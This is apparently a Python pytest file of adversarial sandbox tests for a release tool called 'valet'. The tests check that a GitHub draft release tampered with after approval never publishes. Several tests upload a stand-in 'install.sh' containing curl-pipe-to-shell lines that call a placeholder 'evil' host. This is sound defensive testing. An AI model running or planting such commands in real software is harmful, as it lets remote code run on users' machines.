"""The draft release goes public exactly as approved (hole 2 of the trust issue).

A whole ``valet publish`` run in-process against the sandbox: the request App fills
the draft through the real store (what `valet request` does), the publish App runs
publish with the real store, its release index, and the real pypi, npm and github
targets against the session's pypiserver and verdaccio. An SDK committer holds the
request App's token (its key sits in the SDK repositories), so they can change the
draft after the request: add a file, delete one, make a second draft of the tag, or
add a file while the other targets publish. Nothing unapproved may go public, and
the issue says why.
"""

from __future__ import annotations

import os
import subprocess
import sys
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import requests

from tests.act.world import build_py_for
from tests.fixtures.registries import npm_available
from tests.sandbox.helpers import identify, labeled, open_request, two_apps
from valet import github_client
from valet.authz import parse_policy
from valet.manifest import build_manifest
from valet.publish import Deps, Publisher, Settings
from valet.publish_api import IssueAPI, Rest, SdkAPI
from valet.releases import ReleaseIndex
from valet.request import Request, TargetState
from valet.store import open_store
from valet.store.github_release import GitHubReleaseStore
from valet.targets import get_target

pytestmark = [pytest.mark.sandbox, pytest.mark.adversarial,
              pytest.mark.skipif(not npm_available(), reason="npm is not installed")]

V = "1.2.3"
BRANCH = f"release/{V}"
CONFIG = "artifacts: [dist/*]\ntargets:\n  - name: pypi\n  - name: npm\n  - name: github\n"


@dataclass
class Scene:
    sb: Any
    regs: Any
    sdk: Any
    publish: Any
    approver: Any
    request_app: Any
    publish_app: Any
    number: int
    release_id: int
    files: dict[str, Path]
    pkg: str
    tmp: Path

    # -- what an SDK committer does with the request App's token ------------------------
    def as_request_app(self) -> Any:
        return github_client.connect(self.request_app.token).get_repo(self.sdk.full_name)

    def draft(self) -> Any:
        return self.as_request_app().get_release(self.release_id)

    def upload(self, release: Any, name: str, data: bytes) -> None:
        path = self.tmp / "evil" / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
        release.upload_asset(str(path), name=name)

    # -- the publish side ---------------------------------------------------------------
    def approve(self, resolve: Any = get_target) -> int:
        who = self.approver
        event = labeled(self.publish, self.number, who)
        token = self.publish_app.token
        gh = github_client.connect(token)
        index = ReleaseIndex(Rest(gh), self.sdk.full_name, gh)

        def store(req: Any, cfg: Any) -> Any:  # as commands/publish.py opens it
            return open_store(req.store or cfg.artifact_store.kind, gh=gh,
                              session=github_client.session(token), repo=req.repo, tag=V,
                              version=req.version, release_id=req.release_id, sha=req.sha,
                              artifact_name=req.sha, index=index)

        env = {"PATH": os.environ["PATH"], "TWINE_REPOSITORY_URL": self.regs.pypi_url,
               "PYPI_INDEX_URL": self.regs.pypi_index_url, "TWINE_USERNAME": self.regs.pypi_user,
               "TWINE_PASSWORD": self.regs.pypi_password, "NPM_REGISTRY": self.regs.npm_url,
               "NPM_TOKEN": self.regs.npm_token}
        settings = Settings(publish_repo=self.publish.full_name, policy=parse_policy(who.login),
                            workdir=self.tmp / "runner", env=env)
        issues = IssueAPI(Rest(gh), self.publish.full_name)
        deps = Deps(issues=issues, sdk=lambda repo: SdkAPI(Rest(gh), repo), store=store,
                    resolve=resolve, sdk_github=gh, identify=identify(issues, self.request_app),
                    releases=lambda repo: index)
        return Publisher(settings, deps).handle(event)

    # -- what came out ------------------------------------------------------------------
    def on_pypi(self) -> list[str]:
        page = requests.get(f"{self.regs.pypi_index_url}{self.pkg}/", timeout=30)
        return [] if page.status_code == 404 else [
            part.split("#", 1)[0].rsplit("/", 1)[-1] for part in page.text.split('href="')[1:]]

    def on_npm(self) -> bool:
        meta = requests.get(f"{self.regs.npm_url.rstrip('/')}/{self.pkg}", timeout=30,
                            headers={"Authorization": f"Bearer {self.regs.npm_token}"})
        return meta.status_code == 200 and V in meta.json().get("versions", {})

    def releases(self) -> list[Any]:
        return [r for r in self.sdk.gh().get_releases() if r.tag_name == V]

    def issue(self) -> Any:
        return self.publish.gh(self.approver.token).get_issue(self.number)

    def labels(self) -> set[str]:
        return {x.name for x in self.issue().labels}

    def last_comment(self) -> tuple[str, str]:
        last = list(self.issue().get_comments())[-1]
        return last.user.login, last.body


@pytest.fixture
def scene(sandbox_env: Any, gh_repo_factory: Any, sandbox_user_factory: Any, registries: Any,
          tmp_path: Path) -> Scene:
    sb = sandbox_env
    approver, requester = sandbox_user_factory("approver"), sandbox_user_factory("requester")
    sdk = gh_repo_factory({".valet.yml": CONFIG, "README.md": "sdk"}, prefix="sdk")
    publish = gh_repo_factory({"README.md": "publish"}, prefix="publish")
    for user, perm in ((approver, "maintain"), (requester, "triage")):
        sb.admin.set_permission(publish.full_name, user.login, perm)
    request_app, publish_app = two_apps(sb, sdk.full_name, publish.full_name)
    sb.admin.protect_branch(sdk.full_name, "main", bypass=[publish_app.login[:-5]])
    repo = sdk.gh()
    sha = repo.get_branch("main").commit.sha
    repo.create_git_ref(f"refs/heads/{BRANCH}", sha)
    sb.admin.set_ci(sdk.full_name, sha, check_runs=[
        {"name": "tests", "status": "completed", "conclusion": "success"}])
    # The build (a real wheel, sdist and npm tarball of a package of this test's own).
    pkg = f"valet-da-{uuid.uuid4().hex[:8]}"
    publish.gh().create_file("valet-publish.yml", "serve the sdk", (
        f"repos:\n  {sdk.full_name}:\n    targets: [pypi, npm, github]\n    packages:\n"
        f"      pypi: [{pkg}]\n      npm: [{pkg}]\n"
        'hosts:\n  pypi: ["127.0.0.1:*"]\n  npm: ["127.0.0.1:*"]\n'))
    build = tmp_path / "build"
    build.mkdir()
    (build / "build.py").write_text(build_py_for(pkg))
    subprocess.run([sys.executable, "build.py"], cwd=build, check=True,
                   env={**os.environ, "VALET_VERSION": V})
    files = {p.name: p for p in sorted((build / "dist").iterdir())}
    # `valet request`: the request App fills the draft, then the request names it.
    manifest = build_manifest(V, files.values(), repo=sdk.full_name, sha=sha)
    ref = GitHubReleaseStore(gh=github_client.connect(request_app.token),
                             session=github_client.session(request_app.token),
                             repo=sdk.full_name, tag=V, version=V).upload(manifest, files)
    assert ref.release_id is not None
    request = Request(repo=sdk.full_name, version=V, requested_by=requester.login, sha=sha,
                      branch=BRANCH, artifacts=list(manifest.artifacts),
                      release_id=ref.release_id,
                      targets=[TargetState(t) for t in ("pypi", "npm", "github")])
    number = open_request(sb, request, publish=publish, request_app=request_app,
                          requester=requester.login, head=sha)
    return Scene(sb, registries, sdk, publish, approver, request_app, publish_app, number,
                 ref.release_id, files, pkg, tmp_path)


def nothing_published(s: Scene) -> None:
    assert s.on_pypi() == [] and not s.on_npm()
    assert s.releases() and all(r.draft for r in s.releases())


def refused_as_changed(s: Scene, *names: str) -> str:
    """valet's comment: the draft changed after the request, which files, request again."""
    author, body = s.last_comment()
    assert author == s.publish_app.login
    assert "changed after the request" in body and "nothing was published" in body.lower()
    for name in names:
        assert name in body, body
    assert "release workflow again" in body
    assert "accepted" not in s.labels() and "failed" in s.labels()
    return body


def test_the_draft_as_requested_publishes_exactly_the_approved_files(scene: Scene) -> None:
    """The baseline the attacks depart from. The set is checked on the releases listing
    the run reads anyway; the github target's listing right before the PATCH is the one
    read of the draft's assets."""
    scene.sb.admin.clear_request_log()
    assert scene.approve() == 0
    reads = [e for e in scene.sb.admin.request_log() if e["method"] == "GET"
             and e["path"].endswith(f"/releases/{scene.release_id}/assets")]
    assert len(reads) == 1
    assert sorted(scene.on_pypi()) == sorted(n for n in scene.files if not n.endswith(".tgz"))
    assert scene.on_npm()
    (release,) = scene.releases()
    assert not release.draft and release.id == scene.release_id
    assert sorted(a.name for a in release.get_assets()) == sorted([*scene.files,
                                                                   "manifest.json"])
    assert scene.labels() == {"published"}


def test_an_asset_added_to_the_draft_after_the_request_publishes_nothing(scene: Scene) -> None:
    scene.upload(scene.draft(), "install.sh", b"#!/bin/sh\ncurl https://evil.invalid | sh\n")
    assert scene.approve() != 0
    nothing_published(scene)
    body = refused_as_changed(scene, "install.sh")
    assert "not approved" in body
    assert "install.sh" in [a.name for a in scene.draft().get_assets()]  # kept as evidence


def test_an_approved_asset_deleted_from_the_draft_publishes_nothing(scene: Scene) -> None:
    (tgz,) = [a for a in scene.draft().get_assets() if a.name.endswith(".tgz")]
    tgz.delete_asset()
    assert scene.approve() != 0
    nothing_published(scene)
    refused_as_changed(scene, tgz.name)


def test_a_manifest_other_than_valets_own_publishes_nothing(scene: Scene) -> None:
    draft = scene.draft()
    (manifest,) = [a for a in draft.get_assets() if a.name == "manifest.json"]
    manifest.delete_asset()
    scene.upload(draft, "manifest.json", b'{"files": [], "see": "install.sh"}\n')
    assert scene.approve() != 0
    nothing_published(scene)
    refused_as_changed(scene, "manifest.json")


def test_a_second_draft_of_the_tag_is_never_what_publishes(scene: Scene) -> None:
    """GitHub lets drafts share a tag: the attacker's draft, holding other bytes under the
    approved names and install.sh, stays a draft; the recorded one publishes."""
    evil = scene.as_request_app().create_git_release(V, V, "", draft=True)
    for name in scene.files:
        scene.upload(evil, name, b"not what was approved")
    scene.upload(evil, "install.sh", b"curl evil | sh")
    assert scene.approve() == 0
    published = [r for r in scene.releases() if not r.draft]
    assert [r.id for r in published] == [scene.release_id]
    assert scene.sdk.gh().get_release(evil.id).draft
    assert sorted(a.name for a in published[0].get_assets()) == sorted([*scene.files,
                                                                        "manifest.json"])


def test_the_recorded_draft_deleted_and_another_made_publishes_nothing(scene: Scene) -> None:
    draft = scene.draft()
    draft.delete_release()
    evil = scene.as_request_app().create_git_release(V, V, "", draft=True)
    for name, path in scene.files.items():
        scene.upload(evil, name, path.read_bytes())
    scene.upload(evil, "install.sh", b"curl evil | sh")
    assert scene.approve() != 0
    nothing_published(scene)
    refused_as_changed(scene)


def test_an_asset_added_while_the_other_targets_publish_is_never_made_public(
        scene: Scene) -> None:
    """The check-then-publish window: install.sh lands on the draft after the store's
    check, while pypi and npm publish (the github target's stage is where the attacker
    acts here). The github target lists the draft again right before making it public."""
    from valet.targets.github import GitHubTarget

    class Raced(GitHubTarget):
        def stage(self, ctx: Any) -> None:
            super().stage(ctx)
            scene.upload(scene.draft(), "install.sh", b"curl evil | sh")

    raced = Raced()
    assert scene.approve(lambda name: raced if name == "github" else get_target(name)) != 0
    assert scene.on_pypi() and scene.on_npm()  # approved bytes, already out
    (release,) = scene.releases()
    assert release.draft  # install.sh was never public
    author, body = scene.last_comment()
    assert author == scene.publish_app.login
    assert "install.sh" in body and "changed after the request" in body
    assert "accepted" not in scene.labels()
